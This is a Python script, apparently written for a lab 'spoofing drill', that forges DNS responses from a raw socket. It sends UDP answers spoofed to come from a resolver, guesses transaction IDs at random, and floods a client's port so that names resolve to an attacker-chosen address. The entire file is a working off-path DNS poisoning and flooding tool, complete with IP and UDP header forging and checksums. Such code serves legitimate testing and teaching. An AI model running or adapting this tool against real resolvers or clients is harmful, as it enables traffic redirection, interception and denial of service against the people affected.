#!/usr/bin/python3
"""Off-path DNS spoofer for the spoofing drill (Debian's /usr/bin/python3).

    spoof.py SRC_IP DST_IP DST_PORT SECONDS RATE NAMES_FILE

Floods DST_IP:DST_PORT with UDP answers that claim to come from SRC_IP:53
(the upstream resolver), each with a random transaction id, for a name from
NAMES_FILE (first column), answering 203.0.113.99. An off-path attacker
knows the resolver and the client's port (a fixed-port stub) but not the
id: every answer whose id matches a query in flight is a poisoning. Raw
socket, IPv4, real UDP checksums. Prints how many it sent.
"""
import random
import socket
import struct
import sys

from pacing import paced


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def answer(qid, name, addr):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"
    hdr = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0)
    rr = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr)
    return hdr + q + struct.pack("!HH", 1, 1) + rr


def main():
    src, dst, dport, seconds, rate, names_file = sys.argv[1:7]
    dport, seconds, rate = int(dport), float(seconds), float(rate)
    names = [l.split()[0] for l in open(names_file) if l.strip()]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    srcb, dstb = socket.inet_aton(src), socket.inet_aton(dst)

    def burst():
        for _ in range(50):
            payload = answer(random.randrange(65536), random.choice(names), "203.0.113.99")
            ulen = 8 + len(payload)
            pseudo = srcb + dstb + struct.pack("!BBH", 0, 17, ulen)
            udp = struct.pack("!HHHH", 53, dport, ulen, 0) + payload
            c = csum(pseudo + udp) or 0xFFFF
            udp = udp[:6] + struct.pack("!H", c) + udp[8:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, random.randrange(65536), 0, 64, 17, 0,
                             srcb, dstb)
            s.sendto(ip + udp, (dst, 0))
        return 50

    print(paced(seconds, rate, 50, burst))


if __name__ == "__main__":
    main()
